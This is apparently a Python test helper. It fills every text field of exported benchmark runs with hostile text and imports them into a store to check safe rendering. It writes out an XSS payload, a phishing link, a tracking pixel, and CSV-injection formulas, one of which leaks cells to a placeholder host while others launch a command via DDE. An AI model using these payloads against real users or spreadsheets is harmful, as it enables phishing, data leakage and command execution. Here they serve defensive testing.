"""Hostile untrusted text: a bundle whose every text field holds Markdown, HTML and links,
imported into a store (tests of engine.base.plain: pages under AppTest and in Chromium)."""
from __future__ import annotations

import io

from engine import bundle
from engine.store import Store
from tests.helpers.pages import finished_pair

# An image that logs the viewer's visit, a phishing link, raw HTML, a Streamlit directive.
HOSTILE = ('![](http://HOST/pixel.png) [Session expired: sign in again](http://HOST/phish) '
           '<img src=x onerror=alert(1)> <a href="http://HOST/a">click</a> <b>bold</b> '
           ':red[red] **strong** `code` $x^2$ www.HOST.example mail@HOST.example')

# Spreadsheet formulas (CSV injection): each starts a cell with one of = + - @.
FORMULAS = ('=HYPERLINK("http://HOST/?leak="&A2&B2&C2,"worker log")', '+cmd|\' /C calc\'!A0',
            '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-0.5')


def hostile_store(store: Store, tmp_path, text=HOSTILE) -> list[int]:
    """A pair exported from another store with hostile text, imported into `store`.
    `text`: one string for every text field, or a function of the field's name."""
    text = text if callable(text) else (lambda _field, t=text: t)
    other = Store(tmp_path / "other" / "runs.sqlite")
    b, r = finished_pair(other)
    for rid in (b, r):
        run = other.get_run(rid)
        env = {**(run["environment"] or {}), "hostname": text("hostname"), "cpu_model": text("cpu_model")}
        summary = {**run["summary"], "warnings": [text("warnings")]}
        config = {**run["config"], "dataset": text("dataset")}  # a data set this machine lacks: its name is text
        other.update_run(rid, environment=env, group_id=text("group_id"), summary=summary,
                         stderr_tail=text("stderr_tail"), config=config)
    other.update_run(r, status="cancelled", error=text("error"))
    buf = io.BytesIO()
    bundle.export_runs(other, [b, r], buf)
    other.close()
    pairs = bundle.import_bundle(store, io.BytesIO(buf.getvalue()), name=f"{text('file')}.zip")
    return [new for _old, new in pairs]
